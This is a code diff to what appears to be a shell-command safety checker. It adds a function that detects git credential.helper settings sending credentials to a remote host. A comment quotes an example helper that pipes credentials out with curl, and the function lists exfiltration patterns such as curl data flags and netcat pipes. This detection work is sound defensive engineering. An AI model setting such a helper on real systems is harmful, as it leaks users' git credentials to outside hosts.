@@ -44,6 +44,17 @@ bool GitRuns(const ShellCommand& command) {
   });
 }
 
+// credential.helper '!f() { curl --data-binary @- https://host; }; f': where whatever git is told goes as well.
+std::string HelperSends(const ShellCommand& command) {
+  const auto asked = [](const ShellWord& each) { return LowerCase(each.text) == "credential.helper"; };
+  if (std::ranges::none_of(command.words, asked)) return {};
+  const std::string& helper = command.words.back().text;
+  const bool sends = HasOneOf(helper, {"@-", "-d \"$(cat", "--post-data", "--post-file", "-T -", "| nc ", "|nc "});
+  const std::size_t url = helper.find("://");
+  if (!sends) return {};
+  return url == std::string::npos ? std::string("git's helper") : HostOf(helper.substr(url + 3));
+}
+
 // git push https://name:key@host/...: to a repository whose key stands here, and not to one that the user set up.
 // Returns the host; "" when there is none.
 std::string PushedWithKey(const ShellCommand& command, std::string_view program) {
